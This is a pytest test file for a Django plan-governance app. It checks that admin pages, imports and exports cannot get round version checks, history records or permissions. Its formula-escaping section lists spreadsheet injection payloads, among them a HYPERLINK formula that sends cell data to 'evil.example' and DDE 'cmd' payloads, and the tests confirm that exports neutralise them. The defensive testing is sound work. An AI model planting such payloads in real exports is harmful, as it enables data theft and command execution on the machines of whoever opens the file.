"""The admin cannot go round the rules, the version check or the record (issue 6, item 3).

History pages only show; the admin asks about *this* action; an admin save of an action goes
through the services and the version check; append-only records stay so; people are
deactivated, never deleted, and their changes are in the history; an import refuses a row
whose action changed since it was exported; exports escape formulas; findings and indicators
are numbered per plan. See docs/decisions/0006.
"""

import csv
import datetime
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.db.models import ProtectedError
from django.urls import reverse
from import_export.formats.base_formats import CSV, XLSX
from simple_history.admin import SimpleHistoryAdmin

from governance.models import ProgressReport, Review, Risk
from governance.resources import RiskResource
from tests.helpers import record, rejects
from workstreams import resources, services
from workstreams.admin import HistoryReadOnlyAdmin
from workstreams.audit import acting_as
from workstreams.models import (
    Action,
    ActionUpdate,
    DueDateChange,
    Finding,
    Indicator,
    Plan,
    Rag,
)
from workstreams.resources import ActionResource, GripResource

pytestmark = pytest.mark.django_db

User = get_user_model()


def admin_url(model, view, *args):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}", args=args)


def form_data(response) -> dict:
    """What a browser would send from an admin change or add page, as it was shown."""
    form = response.context["adminform"].form
    data = {}
    for name in form.fields:
        value = form[name].value()
        data[name] = "" if value is None else value
    return data


def picture(action) -> tuple:
    """An action's row, its history and its records, to compare before and after."""
    fresh = Action.objects.get(pk=action.pk)
    return (
        {f.name: getattr(fresh, f.attname) for f in Action._meta.concrete_fields},
        set(fresh.findings.values_list("pk", flat=True)),
        fresh.history.count(),
        ActionUpdate.objects.filter(action=action).count(),
        DueDateChange.objects.filter(action=action).count(),
    )


@pytest.fixture
def admin_client(client, admin_user_demo):
    client.force_login(admin_user_demo)
    return client


@pytest.fixture
def staff_viewer(db):
    """Staff, with only the "view" permissions (history included)."""
    user = User.objects.create_user("staff.viewer", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__startswith="view_"))
    return user


@pytest.fixture
def blue_action(plan):
    """A complete action whose evidence the task group chair accepted (blue)."""
    action = next(a for a in plan.actions.all() if a.rag == Rag.BLUE)
    assert action.evidence_accepted_by is not None
    return action


# --- 1. History pages only show -----------------------------------------------------------


def test_every_admins_history_page_refuses_a_post():
    from workstreams.admin import HistoryPagesOnlyShow

    for model_admin in admin.site._registry.values():
        assert isinstance(model_admin, HistoryPagesOnlyShow), type(model_admin).__name__


def test_every_admin_with_history_shows_it_read_only():
    with_history = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, SimpleHistoryAdmin)
    ]
    assert len(with_history) >= 15  # every domain model, and people
    for model_admin in with_history:
        assert isinstance(model_admin, HistoryReadOnlyAdmin), type(model_admin).__name__


@pytest.mark.parametrize("who", ["staff_viewer", "admin_user_demo"])
def test_a_post_to_a_history_record_page_changes_nothing(request, client, action_mp, chair_mp, who):
    """A revert (or any POST) through the history record page is refused for everyone, the
    superuser included, and the version never goes back."""
    record(action_mp, chair_mp, status="at_risk", progress_narrative="Slipping.")
    action_mp.refresh_from_db()
    oldest = action_mp.history.earliest()
    client.force_login(request.getfixturevalue(who))
    url = reverse("admin:workstreams_action_simple_history", args=[action_mp.pk, oldest.pk])
    shown = client.get(url)
    assert shown.status_code == 200
    assert 'name="_save"' not in shown.content.decode()
    data = {
        "title": "Rewritten through the history page",
        "status": oldest.status,
        "progress_narrative": oldest.progress_narrative,
        "based_on_version": oldest.version,
        "_change_history": "1",
    }
    before = picture(action_mp)
    history_rows = {m: m.history.count() for m in (Action, ActionUpdate, DueDateChange)}
    response = client.post(url, data)
    assert response.status_code in (403, 405)
    assert picture(action_mp) == before
    assert {m: m.history.count() for m in history_rows} == history_rows
    # The history list page only shows too.
    assert client.post(admin_url(Action, "history", action_mp.pk)).status_code in (403, 405)
    assert picture(action_mp) == before


def test_a_rejected_due_date_change_cannot_be_approved_through_its_history_page(
    admin_client, action_mp, lead_mp, chair_mp
):
    new_date = action_mp.current_due_date + datetime.timedelta(days=30)
    record(action_mp, lead_mp, revised_due_date=new_date, due_date_reason="Waiting for audit.")
    change = action_mp.due_date_changes.get()
    services.due_date_change_decide(change=change, by=chair_mp, approve=False, comment="No.")
    pending_row = change.history.earliest()
    assert pending_row.decision == DueDateChange.Decision.PENDING
    url = reverse(
        "admin:workstreams_duedatechange_simple_history", args=[change.pk, pending_row.pk]
    )
    before = picture(action_mp)
    response = admin_client.post(
        url, {"decision": "approved", "decided_by": chair_mp.pk, "_change_history": "1"}
    )
    assert response.status_code in (403, 405)
    change.refresh_from_db()
    assert change.decision == DueDateChange.Decision.REJECTED
    assert change.history.count() == 2
    assert picture(action_mp) == before


def test_a_copy_from_an_older_history_row_never_sends_the_version_back(action_mp, chair_mp):
    """Whatever path saves an old copy of an action, its version only goes up."""
    record(action_mp, chair_mp, status="at_risk", progress_narrative="Slipping.")
    action_mp.refresh_from_db()
    record(action_mp, chair_mp, status="off_track", progress_narrative="Stalled.")
    action_mp.refresh_from_db()
    current = action_mp.version
    old_copy = action_mp.history.earliest().instance
    assert old_copy.version < current
    with acting_as(chair_mp):
        old_copy.save()
    action_mp.refresh_from_db()
    assert action_mp.version == current + 1


# --- 2. The admin asks about this action ----------------------------------------------------


@pytest.fixture
def staff_lead(lead_mp):
    """lead.mp, made staff and given Django's model permission to change actions."""
    lead_mp.is_staff = True
    lead_mp.save()
    lead_mp.user_permissions.set(
        Permission.objects.filter(content_type__app_label="workstreams", codename="change_action")
    )
    return User.objects.get(pk=lead_mp.pk)  # fresh: no cached permissions


def test_a_staff_lead_officer_changes_their_own_action_in_the_admin(client, staff_lead, action_mp):
    client.force_login(staff_lead)
    url = admin_url(Action, "change", action_mp.pk)
    data = form_data(client.get(url))
    data["title"] = "Renamed by its lead"
    response = client.post(url, data)
    assert response.status_code == 302
    action_mp.refresh_from_db()
    assert action_mp.title == "Renamed by its lead"
    assert action_mp.history.latest().history_user == staff_lead


def test_a_staff_lead_officer_is_refused_another_workstreams_action(
    client, staff_lead, plan, admin_user_demo
):
    other = plan.actions.filter(workstream__code="WF").first()
    client.force_login(admin_user_demo)
    data = form_data(client.get(admin_url(Action, "change", other.pk)))
    data["title"] = "Renamed by someone else's lead"
    client.force_login(staff_lead)
    before = picture(other)
    url = admin_url(Action, "change", other.pk)
    assert client.get(url).status_code == 403
    assert client.post(url, data).status_code == 403
    assert client.get(admin_url(Action, "delete", other.pk)).status_code == 403
    assert client.post(admin_url(Action, "delete", other.pk), {"post": "yes"}).status_code == 403
    assert picture(other) == before


def test_the_changelist_offers_a_staff_lead_only_what_they_may_change(client, staff_lead, plan):
    client.force_login(staff_lead)
    response = client.get(admin_url(Action, "changelist"))
    assert response.status_code == 200
    listed = {a.reference for a in response.context["cl"].result_list}
    theirs = set(plan.actions.filter(lead_officer=staff_lead).values_list("reference", flat=True))
    assert theirs and listed == theirs
    page = response.content.decode()
    other = plan.actions.filter(workstream__code="WF").first()
    assert admin_url(Action, "change", other.pk) not in page


def test_the_right_to_view_reads_every_action_but_changes_none_it_may_not(client, staff_lead, plan):
    staff_lead.user_permissions.add(Permission.objects.get(codename="view_action"))
    staff_lead = User.objects.get(pk=staff_lead.pk)
    client.force_login(staff_lead)
    other = plan.actions.filter(workstream__code="WF").first()
    url = admin_url(Action, "change", other.pk)
    shown = client.get(url)
    assert shown.status_code == 200
    assert 'name="_save"' not in shown.content.decode()
    before = picture(other)
    assert client.post(url, {"title": "No", "based_on_version": other.version}).status_code == 403
    assert picture(other) == before


# --- 3. An admin save of an action goes through the services ---------------------------------


def test_an_admin_save_over_a_later_portal_update_is_refused_and_changes_nothing(
    admin_client, action_mp, chair_mp
):
    url = admin_url(Action, "change", action_mp.pk)
    data = form_data(admin_client.get(url))  # opened at this version...
    record(action_mp, chair_mp, status="at_risk", progress_narrative="Chair's words.")  # ...then
    data["title"] = "The admin's stale title"
    before = picture(action_mp)
    response = admin_client.post(url, data)
    assert response.status_code == 200  # the form again, with the reason
    page = response.content.decode()
    assert "changed in Grip since you opened it" in page
    assert "Nothing was saved" in page
    assert display_name_in(chair_mp, page)
    assert picture(action_mp) == before
    # The form now carries the current version: saving again is a deliberate choice.
    again = form_data(response)
    assert again["based_on_version"] == Action.objects.get(pk=action_mp.pk).version
    assert again["title"] == "The admin's stale title"
    assert admin_client.post(url, again).status_code == 302
    action_mp.refresh_from_db()
    assert action_mp.title == "The admin's stale title"
    assert action_mp.progress_narrative == "Chair's words."


def display_name_in(user, page) -> bool:
    from django.utils.html import escape

    return escape(user.get_full_name()) in page


def test_the_service_refuses_a_stale_plan_change(action_mp, chair_mp, office):
    opened = action_mp.version
    record(action_mp, chair_mp, status="at_risk", progress_narrative="Chair's words.")
    before = picture(action_mp)
    with pytest.raises(services.ActionChangedSinceOpened):
        services.action_plan_change(
            action=action_mp, by=office, based_on_version=opened, title="Stale"
        )
    assert picture(action_mp) == before


def test_delivery_is_read_only_in_the_admin(admin_client, blue_action):
    """Status, narrative, evidence (and its acceptance) and the revised due date change only
    through the update form: the admin's form has no such fields and ignores them if sent."""
    url = admin_url(Action, "change", blue_action.pk)
    shown = admin_client.get(url)
    form = shown.context["adminform"].form
    assert set(form.fields) == {
        "title",
        "description",
        "lead_officer",
        "priority",
        "findings",
        "based_on_version",
    }
    data = form_data(shown)
    data.update(
        {
            "status": "complete",
            "evidence_of_impact": "Evidence rewritten in the admin.",
            "evidence_accepted_at": "",
            "revised_due_date": "2019-06-30",
            "revised_due_reason": "Moved in the admin.",
            "due_date": "2019-06-30",
        }
    )
    before = picture(blue_action)
    assert admin_client.post(url, data).status_code == 302
    assert picture(blue_action) == before  # nothing the form may change was changed
    blue_action.refresh_from_db()
    assert blue_action.rag == Rag.BLUE
    assert blue_action.evidence_of_impact != "Evidence rewritten in the admin."


def test_a_plan_change_is_one_new_version_with_its_findings_recorded(
    admin_client, admin_user_demo, action_mp, plan
):
    url = admin_url(Action, "change", action_mp.pk)
    data = form_data(admin_client.get(url))
    finding = plan.findings.exclude(pk__in=action_mp.findings.all()).first()
    data["findings"] = [*data["findings"], finding.pk]
    version, rows = action_mp.version, action_mp.history.count()
    assert admin_client.post(url, data).status_code == 302
    action_mp.refresh_from_db()
    assert action_mp.version == version + 1
    assert action_mp.history.count() == rows + 1
    latest = action_mp.history.latest()
    assert latest.history_user == admin_user_demo
    assert finding.pk in set(latest.findings.values_list("finding_id", flat=True))


def test_an_admin_save_that_changes_nothing_writes_nothing(admin_client, action_mp):
    url = admin_url(Action, "change", action_mp.pk)
    before = picture(action_mp)
    assert admin_client.post(url, form_data(admin_client.get(url))).status_code == 302
    assert picture(action_mp) == before


def test_adding_an_action_in_the_admin_goes_through_the_service(
    admin_client, admin_user_demo, plan
):
    workstream = plan.workstreams.get(code="MP")
    shown = admin_client.get(admin_url(Action, "add"))
    assert "status" not in shown.context["adminform"].form.fields
    finding = plan.findings.first()
    data = {
        "plan": plan.pk,
        "workstream": workstream.pk,
        "priority": "",
        "reference": "MP-9.1",
        "title": "Added in the admin",
        "description": "",
        "lead_officer": "",
        "due_date": "2019-03-31",
        "findings": [finding.pk],
        "status": "complete",  # not a field of the form: ignored
    }
    # A reference no link could be made to is refused, with the import's message.
    refused = admin_client.post(admin_url(Action, "add"), {**data, "reference": "MP-9/1"})
    assert refused.status_code == 200
    assert refused.context["adminform"].form.errors["reference"] == [
        "A reference has no spaces and none of / ? # % \\ in it."
    ]
    assert not Action.objects.filter(plan=plan, reference__startswith="MP-9").exists()
    response = admin_client.post(admin_url(Action, "add"), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    action = Action.objects.get(plan=plan, reference="MP-9.1")
    assert action.status == "not_started" and action.version == 1
    assert list(action.findings.all()) == [finding]
    assert action.history.earliest().history_user == admin_user_demo
    assert {row.history_user for row in action.history.all()} == {admin_user_demo}


def test_only_the_programme_office_adds_actions(plan, lead_mp, office):
    workstream = plan.workstreams.get(code="MP")
    values = {
        "plan": plan,
        "workstream": workstream,
        "reference": "MP-9.2",
        "title": "New",
        "due_date": datetime.date(2019, 3, 31),
    }
    with pytest.raises(services.PermissionDenied):
        services.action_create(by=lead_mp, **values)
    assert services.action_create(by=office, **values).status == "not_started"


# --- 4. Append-only records and people ---------------------------------------------------------


@pytest.fixture
def records(plan, action_mp, lead_mp, chair_mp):
    """One update, one due-date change and one review."""
    new_date = action_mp.current_due_date + datetime.timedelta(days=30)
    update = record(action_mp, lead_mp, revised_due_date=new_date, due_date_reason="Audit.")
    report = ProgressReport.objects.create(
        plan=plan,
        workstream=action_mp.workstream,
        period=datetime.date(2019, 1, 1),
        created_by=lead_mp,
    )
    review = Review.objects.create(report=report, step=Review.Step.SUBMIT, by=lead_mp)
    return {"update": update, "change": action_mp.due_date_changes.get(), "review": review}


@pytest.mark.parametrize("kind", ["update", "change", "review"])
def test_append_only_records_are_never_added_changed_or_deleted_in_the_admin(
    admin_client, records, kind
):
    obj = records[kind]
    model = type(obj)
    before = {f.name: getattr(obj, f.attname) for f in model._meta.concrete_fields}
    count = model.objects.count()
    assert admin_client.get(admin_url(model, "add")).status_code == 403
    assert admin_client.post(admin_url(model, "add"), {}).status_code == 403
    shown = admin_client.get(admin_url(model, "change", obj.pk))
    assert shown.status_code == 200
    assert 'name="_save"' not in shown.content.decode()
    assert admin_client.post(admin_url(model, "change", obj.pk), {}).status_code == 403
    assert admin_client.post(admin_url(model, "delete", obj.pk), {"post": "yes"}).status_code == 403
    action_form = admin_client.get(admin_url(model, "changelist")).context["action_form"]
    offered = [name for name, _ in action_form.fields["action"].choices] if action_form else []
    assert "delete_selected" not in offered
    assert admin_client.get(admin_url(model, "export")).status_code == 200
    obj.refresh_from_db()
    assert {f.name: getattr(obj, f.attname) for f in model._meta.concrete_fields} == before
    assert model.objects.count() == count


def test_deleting_an_action_or_report_with_a_record_is_refused(records, action_mp):
    with pytest.raises(ProtectedError):
        Action.objects.get(pk=action_mp.pk).delete()
    with pytest.raises(ProtectedError):
        ProgressReport.objects.get(pk=records["review"].report_id).delete()
    assert ActionUpdate.objects.filter(pk=records["update"].pk).exists()
    assert DueDateChange.objects.filter(pk=records["change"].pk).exists()


def test_people_are_never_deleted_in_the_admin(admin_client, lead_mp):
    url = admin_url(User, "delete", lead_mp.pk)
    assert admin_client.get(url).status_code == 403
    assert admin_client.post(url, {"post": "yes"}).status_code == 403
    changelist = admin_client.get(admin_url(User, "changelist"))
    actions = [name for name, _ in changelist.context["action_form"].fields["action"].choices]
    assert "delete_selected" not in actions and "deactivate" in actions
    admin_client.post(
        admin_url(User, "changelist"),
        {"action": "delete_selected", "_selected_action": [lead_mp.pk], "post": "yes"},
    )
    assert User.objects.filter(pk=lead_mp.pk).exists()


def test_a_person_who_leaves_is_deactivated_and_the_history_says_who_did_it(
    admin_client, admin_user_demo, lead_wf
):
    response = admin_client.post(
        admin_url(User, "changelist"), {"action": "deactivate", "_selected_action": [lead_wf.pk]}
    )
    assert response.status_code == 302
    lead_wf.refresh_from_db()
    assert not lead_wf.is_active
    latest = lead_wf.history.latest()
    assert latest.is_active is False and latest.history_user == admin_user_demo


def test_an_administrator_cannot_deactivate_themselves(admin_client, admin_user_demo, lead_wf):
    admin_client.post(
        admin_url(User, "changelist"),
        {"action": "deactivate", "_selected_action": [lead_wf.pk, admin_user_demo.pk]},
    )
    assert User.objects.get(pk=admin_user_demo.pk).is_active
    assert User.objects.get(pk=lead_wf.pk).is_active  # nobody, not the others either


def test_deleting_someone_named_in_the_history_is_refused_and_their_name_stays(plan, office):
    person = User.objects.create_user("leaver", first_name="Lee", last_name="Ver")
    with acting_as(person):
        plan.description = "Edited by someone who later left."
        plan.save()
    row = plan.history.latest()
    with pytest.raises(ProtectedError):
        person.delete()
    row.refresh_from_db()
    assert row.history_user == person


def test_changes_to_people_and_their_groups_are_in_the_history(
    admin_client, admin_user_demo, lead_wf
):
    """The programme office group grants rights: joining it is on the record, with who."""
    group = Group.objects.get(name="Programme office")
    url = admin_url(User, "change", lead_wf.pk)
    data = form_data(admin_client.get(url))
    data["groups"] = [group.pk]
    data["first_name"] = "Renamed"
    for name in ("last_login", "date_joined"):
        data.pop(name, None)
    data.update(
        {
            "date_joined_0": lead_wf.date_joined.strftime("%Y-%m-%d"),
            "date_joined_1": lead_wf.date_joined.strftime("%H:%M:%S"),
        }
    )
    response = admin_client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    rows = list(lead_wf.history.order_by("history_date", "history_id"))
    latest = rows[-1]
    assert latest.history_user == admin_user_demo
    assert latest.first_name == "Renamed"
    assert group.pk in set(latest.groups.values_list("group_id", flat=True))
    assert not rows[0].groups.filter(group_id=group.pk).exists()
    history = admin_client.get(admin_url(User, "history", lead_wf.pk)).content.decode()
    assert "Renamed" in history and "Programme office" in history


def test_signing_in_writes_no_history_row(client, lead_wf):
    rows = lead_wf.history.count()
    assert client.post("/accounts/login/", {"username": "lead.wf", "password": "grip-demo"})
    lead_wf.refresh_from_db()
    assert lead_wf.last_login is not None
    assert lead_wf.history.count() == rows


# --- 5. An import refuses a row whose action changed since it was exported ---------------------


def snapshot_of_actions():
    return {
        a.reference: (a.title, a.status, a.evidence_of_impact, a.evidence_accepted_at, a.version)
        for a in Action.objects.all()
    }


def test_an_older_export_cannot_revert_a_later_portal_update(plan, action_mp, chair_mp, office):
    exported = ActionResource().export()
    record(action_mp, chair_mp, status="off_track", progress_narrative="Chair: stalled.")
    before, history = snapshot_of_actions(), Action.history.count()
    with acting_as(office):
        result = ActionResource().import_data(tablib.Dataset().load(exported.export("csv")))
    assert result.has_validation_errors()
    messages = " ".join(
        str(message)
        for row in result.invalid_rows
        for errors in row.error_dict.values()
        for message in errors
    )
    assert f"{action_mp.reference} changed in Grip since this file was exported" in messages
    assert "Nothing was imported" in messages
    assert len(result.invalid_rows) == 1  # only the row of the action that changed
    assert snapshot_of_actions() == before and Action.history.count() == history


def test_a_row_for_an_action_in_grip_must_carry_its_version(plan):
    dataset = ActionResource().export()
    rows = [list(r) for r in dataset]
    rows[0][dataset.headers.index("version")] = ""
    rows[0][dataset.headers.index("title")] = "Changed without a version"
    before = snapshot_of_actions()
    result = ActionResource().import_data(tablib.Dataset(*rows, headers=dataset.headers))
    assert result.has_validation_errors()
    assert "has no version" in str(result.invalid_rows[0].error_dict)
    assert snapshot_of_actions() == before


def test_a_new_action_needs_no_version_and_an_unchanged_export_changes_nothing(plan, office):
    dataset = ActionResource().export()
    headers = dataset.headers
    history = Action.history.count()
    with acting_as(office):
        unchanged = ActionResource().import_data(tablib.Dataset().load(dataset.export("csv")))
    assert unchanged.totals["skip"] == len(dataset) and Action.history.count() == history
    new = dict(zip(headers, dataset[0], strict=True))
    new.update({"reference": "MP-9.9", "version": "", "status": "Not started", "findings": ""})
    new.update({"workstream": "MP", "evidence_of_impact": "", "revised_due_date": ""})
    new["revised_due_reason"] = ""
    with acting_as(office):
        result = ActionResource().import_data(
            tablib.Dataset([new[h] for h in headers], headers=headers)
        )
    assert not result.has_validation_errors() and not result.has_errors(), result.invalid_rows
    created = Action.objects.get(plan=plan, reference="MP-9.9")
    assert created.history.latest().history_user == office


def test_an_imported_change_of_evidence_withdraws_the_chairs_acceptance(plan, blue_action, office):
    dataset = ActionResource().export()
    rows = [list(r) for r in dataset]
    index = dataset["reference"].index(blue_action.reference)
    rows[index][dataset.headers.index("evidence_of_impact")] = "Different evidence."
    with acting_as(office):
        result = ActionResource().import_data(tablib.Dataset(*rows, headers=dataset.headers))
    assert not result.has_validation_errors(), result.invalid_rows
    blue_action.refresh_from_db()
    assert blue_action.evidence_of_impact == "Different evidence."
    assert blue_action.evidence_accepted_at is None and blue_action.rag == Rag.AWAITING_EVIDENCE
    assert blue_action.history.latest().history_user == office


@pytest.mark.parametrize(
    "column, value",
    [("revised_due_date", "2019-06-30"), ("due_date", "2019-06-30")],
)
def test_an_import_never_moves_a_due_date(plan, action_mp, column, value):
    dataset = ActionResource().export()
    rows = [list(r) for r in dataset]
    index = dataset["reference"].index(action_mp.reference)
    rows[index][dataset.headers.index(column)] = value
    rows[index][dataset.headers.index("revised_due_reason")] = "Moved by import."
    before = picture(action_mp)
    result = ActionResource().import_data(tablib.Dataset(*rows, headers=dataset.headers))
    assert result.has_validation_errors()
    assert "update form" in str(result.invalid_rows[0].error_dict) or "agreed due date" in str(
        result.invalid_rows[0].error_dict
    )
    assert picture(action_mp) == before


def test_an_import_refuses_an_action_the_importer_may_not_change(plan, lead_mp):
    dataset = ActionResource().export()
    rows = [list(r) for r in dataset]
    index = next(i for i, r in enumerate(dataset["workstream"]) if r == "WF")
    rows[index][dataset.headers.index("title")] = "Renamed by lead.mp"
    before = snapshot_of_actions()
    result = ActionResource().import_data(
        tablib.Dataset(*rows, headers=dataset.headers), user=lead_mp
    )
    assert "You may not change" in str(result.invalid_rows[0].error_dict)
    assert snapshot_of_actions() == before


def admin_import(client, content: bytes, name: str, file_format):
    """The admin's two steps: upload (a dry run, shown), then confirm."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    url = admin_url(Action, "import")
    page = client.get(url)
    form = page.context["form"]
    format_index = next(
        value for value, label in form.fields["format"].choices if label == file_format
    )
    resource_field = form.fields.get("resource")
    data = {"format": format_index, "import_file": SimpleUploadedFile(name, content)}
    if resource_field is not None:
        data["resource"] = resource_field.choices[0][0]
    preview = client.post(url, data)
    confirm = preview.context.get("confirm_form")
    if confirm is None:
        return preview
    values = {name: confirm[name].value() for name in confirm.fields}
    return client.post(admin_url(Action, "process_import"), values)


def test_the_admin_import_records_the_importing_user_and_refuses_a_stale_file(
    admin_client, admin_user_demo, action_mp, chair_mp
):
    dataset = ActionResource().export()
    rows = [list(r) for r in dataset]
    index = dataset["reference"].index(action_mp.reference)
    rows[index][dataset.headers.index("title")] = "Renamed by the admin import"
    changed = tablib.Dataset(*rows, headers=dataset.headers)
    # A stale file: the chair updated the action after the export.
    record(action_mp, chair_mp, status="at_risk", progress_narrative="Chair's words.")
    before = picture(action_mp)
    stale = admin_import(admin_client, changed.export("csv").encode(), "actions.csv", "csv")
    assert "changed in Grip since this file was exported" in stale.content.decode()
    assert picture(action_mp) == before
    # A fresh export, changed the same way, is imported and recorded as the admin's.
    dataset = ActionResource().export()
    rows = [list(r) for r in dataset]
    rows[index][dataset.headers.index("title")] = "Renamed by the admin import"
    fresh = tablib.Dataset(*rows, headers=dataset.headers)
    done = admin_import(admin_client, fresh.export("csv").encode(), "actions.csv", "csv")
    assert done.status_code == 302
    action_mp.refresh_from_db()
    assert action_mp.title == "Renamed by the admin import"
    assert action_mp.progress_narrative == "Chair's words."
    assert action_mp.history.latest().history_user == admin_user_demo


# --- 6. Formulas escaped on every export --------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "==1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_every_resource_escapes_formulas():
    from governance import resources as governance_resources

    for module in (resources, governance_resources):
        for value in vars(module).values():
            if (
                isinstance(value, type)
                and issubclass(value, resources.resources.Resource)
                and value.__module__ == module.__name__
            ):
                assert issubclass(value, GripResource), value.__name__


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_a_spreadsheet_would_run_is_exported_as_text(formula):
    assert resources.escape_formula(formula) == "'" + formula
    assert resources.unescape_formula("'" + formula) == formula


@pytest.mark.parametrize("number", ["-5", "-0.50", "+3", "12"])
def test_numbers_are_left_alone(number):
    assert resources.escape_formula(number) == number


@pytest.fixture
def formula_actions(plan, office):
    actions = list(plan.actions.order_by("reference")[: len(FORMULAS)])
    with acting_as(office):
        for action, formula in zip(actions, FORMULAS, strict=True):
            action.title = formula
            action.description = formula
            action.save()
    return actions


def admin_export(client, model, file_format) -> bytes:
    url = admin_url(model, "export")
    form = client.get(url).context["form"]
    data = {}
    for name, field in form.fields.items():
        if name == "format":
            data[name] = next(v for v, label in field.choices if label == file_format)
        elif name == "resource":
            data[name] = field.choices[0][0]
        else:
            value = form[name].value()
            if value not in (None, False):
                data[name] = "on" if value is True else value
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_an_admin_xlsx_export_has_no_formula_and_keeps_numbers_and_dates(
    admin_client, formula_actions
):
    book = openpyxl.load_workbook(io.BytesIO(admin_export(admin_client, Action, "xlsx")))
    sheet = book.active
    headers = [cell.value for cell in sheet[1]]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    titles = {row[headers.index("title")].value: row for row in sheet.iter_rows(min_row=2)}
    for formula in FORMULAS:
        row = titles["'" + formula.replace("\r", "\n")]  # XML keeps \r as \n
        assert isinstance(row[headers.index("due_date")].value, datetime.datetime | datetime.date)
        assert isinstance(row[headers.index("version")].value, int)


def test_an_admin_csv_export_escapes_formulas(admin_client, formula_actions):
    text = admin_export(admin_client, Action, "csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = {row["title"] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in titles
    assert not any(
        value.startswith(("=", "+", "@", "\t", "\r")) for row in rows for value in row.values()
    )


def test_an_escaped_export_imports_back_unchanged(plan, formula_actions, office):
    # xlsx is XML, which keeps a carriage return as a line feed: that one cannot come back.
    carriage_return = next(a for a in formula_actions if a.title.startswith("\r"))
    carriage_return.title = carriage_return.description = "No carriage return"
    with acting_as(office):
        carriage_return.save()
    before, history = snapshot_of_actions(), Action.history.count()
    xlsx = XLSX().export_data(ActionResource().export())
    with acting_as(office):
        result = ActionResource().import_data(tablib.Dataset().load(xlsx, format="xlsx"))
    assert not result.has_validation_errors(), result.invalid_rows
    assert snapshot_of_actions() == before and Action.history.count() == history


def test_governance_exports_escape_formulas_too(plan, chair_mp):
    risk = Risk.objects.create(
        plan=plan, title="=1+1", owner=chair_mp, likelihood=2, impact=3, mitigation="@SUM(A1)"
    )
    # Only this one: the demo's risks (load_demo) are in the register too.
    dataset = RiskResource().export(queryset=Risk.objects.filter(pk=risk.pk))
    row = dict(zip(dataset.headers, dataset[-1], strict=True))
    assert row["title"] == "'=1+1" and row["mitigation"] == "'@SUM(A1)"
    assert row["likelihood"] in (2, "2")
    text = CSV().export_data(dataset)
    assert "'=1+1" in text


# --- 7. Smaller things: the lead filter; findings and indicators per plan -----------------------


def test_the_lead_officer_filter_lists_only_people_who_lead_actions(admin_client, plan):
    response = admin_client.get(admin_url(Action, "changelist"))
    spec = next(
        f
        for f in response.context["cl"].filter_specs
        if getattr(f, "field_path", "") == "lead_officer"
    )
    listed = {label for _, label in spec.lookup_choices}
    leads = {str(user) for user in User.objects.filter(led_actions__isnull=False).distinct()}
    assert listed == leads
    assert "grip.system" not in listed and "viewer" not in listed


@pytest.fixture
def next_plan(plan):
    return Plan.objects.create(
        title="Children's Improvement Plan 2019/20",
        council=plan.council,
        period_start=datetime.date(2019, 4, 1),
        period_end=datetime.date(2020, 3, 31),
    )


def test_two_plans_each_have_f_01_and_one_plan_cannot_have_two(plan, next_plan):
    first = plan.findings.get(reference="F-01")
    again = Finding.objects.create(
        plan=next_plan, reference="F-01", source="Ofsted", date=datetime.date(2019, 5, 1), text="x"
    )
    assert Finding.objects.get_by_natural_key(plan.title, "F-01") == first
    assert Finding.objects.get_by_natural_key(next_plan.title, "F-01") == again
    assert rejects(
        lambda: Finding.objects.create(
            plan=next_plan, reference="F-01", source="x", date=datetime.date(2019, 5, 1), text="y"
        )
    )


def test_two_plans_each_have_an_indicator_code_and_one_plan_cannot_have_two(plan, next_plan):
    indicator = plan.indicators.first()
    workstream = next_plan.workstreams.create(code="MP", name="Management & Practice")
    values = {"workstream": workstream, "name": "Supervisions", "target": 90}
    again = Indicator.objects.create(plan=next_plan, code=indicator.code, **values)
    assert Indicator.objects.get_by_natural_key(next_plan.title, indicator.code) == again
    assert Indicator.objects.get_by_natural_key(plan.title, indicator.code) == indicator
    assert rejects(lambda: Indicator.objects.create(plan=next_plan, code=indicator.code, **values))


def test_next_years_plan_loads_with_the_same_finding_and_indicator_references(plan):
    import json

    from django.conf import settings

    data = json.loads(settings.GRIP_REFERENCE_PLAN.read_text(encoding="utf-8"))
    data["plan"].update({"title": "Children's Improvement Plan 2019/20", "status": "draft"})
    data["plan"].update({"period_start": "2019-04-01", "period_end": "2020-03-31"})
    with acting_as(User.objects.get(username="office")):
        second = services.plan_load(data=data)
    references = sorted(plan.findings.values_list("reference", flat=True))
    assert sorted(second.findings.values_list("reference", flat=True)) == references
    codes = sorted(plan.indicators.values_list("code", flat=True))
    assert sorted(second.indicators.values_list("code", flat=True)) == codes
    # Each plan's actions answer their own plan's findings.
    for action in second.actions.prefetch_related("findings"):
        assert all(f.plan_id == second.pk for f in action.findings.all())


def test_an_action_cannot_answer_another_plans_finding(action_mp, next_plan, office):
    stranger = Finding.objects.create(
        plan=next_plan, reference="F-01", source="x", date=datetime.date(2019, 5, 1), text="y"
    )
    before = picture(action_mp)
    with pytest.raises(services.ValidationError):
        services.action_plan_change(
            action=action_mp, by=office, based_on_version=action_mp.version, findings=[stranger]
        )
    assert picture(action_mp) == before


def test_imports_find_findings_in_their_own_plan(plan, next_plan):
    Finding.objects.create(
        plan=next_plan, reference="F-01", source="x", date=datetime.date(2019, 5, 1), text="y"
    )
    exported = resources.FindingResource().export()
    assert sorted(exported["reference"]) == sorted(
        plan.findings.values_list("reference", flat=True)
    )
    result = resources.FindingResource().import_data(tablib.Dataset().load(exported.export("csv")))
    assert not result.has_validation_errors() and result.totals["skip"] == len(exported)
    # An action's findings name its own plan's (F-01 is in both plans).
    dataset = ActionResource().export()
